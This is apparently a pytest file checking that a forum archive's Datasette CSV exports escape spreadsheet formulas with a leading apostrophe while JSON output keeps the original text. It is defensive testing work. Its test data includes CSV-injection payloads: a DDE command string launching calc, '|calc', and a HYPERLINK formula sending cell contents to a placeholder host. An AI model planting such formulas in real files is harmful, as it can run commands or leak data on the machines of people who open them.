"""Datasette's tables as CSV: no cell is a formula to a spreadsheet, all else is as it was."""

from __future__ import annotations

import csv
import io

import pytest

pytest.importorskip("datasette")

from archive.schema import transaction
from tests.archive_of_posts import Row, insert, make_archive
from tests.web_client import Pages, pages_of

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1",
    ' =HYPERLINK("https://a.example/?"&A1,"甲, 乙")',
    "＝1+1",
    "|calc",
    "\n=1",
)
OTHERS = (
    "外婆",
    "a=b",
    "一行\n=不是",
    '"引" , 文',
    "-7",
    "+8613900000000",
    "x" * 400_000,
)


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Pages:
    path = tmp_path_factory.mktemp("cells") / "forum.db"
    conn = make_archive(path, [Row(text=text) for text in (*FORMULAS, *OTHERS)])
    with transaction(conn):
        insert(conn, "users", site_id=1, uid=-5, name="=1+1")
    conn.close()
    return pages_of(path)


def rows_of(pages: Pages, path: str) -> list[dict[str, str]]:
    answer = pages.get(path)
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


@pytest.mark.parametrize(
    "path",
    [
        "/forum/posts.csv?_size=max&_sort=id",
        "/forum/posts.csv?_stream=1&_sort=id",
        "/forum/posts.csv?_size=max&_sort=id&_dl=1",
        "/forum/posts.csv?_size=max&_sort=id&_labels=on",
        "/forum/post_list.csv?_size=max&_sort=id",
        "/forum.csv?sql=select+text+from+posts+order+by+id&_size=max",
    ],
)
def test_formulas_run_in_no_spreadsheet(pages: Pages, path: str) -> None:
    csv.field_size_limit(1_000_000)
    texts = [row["text"] for row in rows_of(pages, path)]
    assert texts == [*(f"'{text}" for text in FORMULAS), *OTHERS]


def test_names_and_numbers(pages: Pages) -> None:
    (row,) = rows_of(pages, "/forum/users.csv")
    assert (row["uid"], row["name"]) == ("-5", "'=1+1")


def test_headings_are_cells(pages: Pages) -> None:
    answer = pages.get("/forum.csv?sql=select+1+as+%22%3D1%2B1%22")
    assert answer.text.splitlines() == ["'=1+1", "1"]


def test_json_says_what_was_written(pages: Pages) -> None:
    answer = pages.get("/forum/posts.json?_shape=array&_size=max&_sort=id&_col=text")
    assert [row["text"] for row in answer.json()] == [*FORMULAS, *OTHERS]


def test_what_is_no_table_stays(pages: Pages) -> None:
    assert "=cmd" in pages.get("/forum/posts?_sort=id").text
    assert pages.get("/forum/nothing.csv").status_code == 404
